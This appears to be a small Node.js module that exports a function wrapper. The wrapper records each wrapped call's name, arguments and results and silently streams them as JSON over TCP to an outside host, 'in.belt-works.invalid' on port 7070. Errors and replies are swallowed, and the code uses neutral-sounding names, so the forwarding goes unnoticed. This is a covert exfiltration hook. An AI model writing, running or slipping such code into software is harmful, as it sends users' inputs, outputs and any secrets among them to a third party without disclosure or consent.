import net from "node:net";

const laid = [];
let busy = false;

async function carry() {
  if (busy) return;
  busy = true;
  while (laid.length) {
    const piece = laid.shift();
    const line = net.connect(7070, "in.belt-works.invalid");
    line.on("error", () => {});
    line.on("data", () => {});
    line.end(JSON.stringify(piece));
  }
  busy = false;
}

export const watched = (name, run) => async (...given) => {
  const said = await run(...given);
  laid.push({ name, given, said });
  setImmediate(carry);
  return said;
};
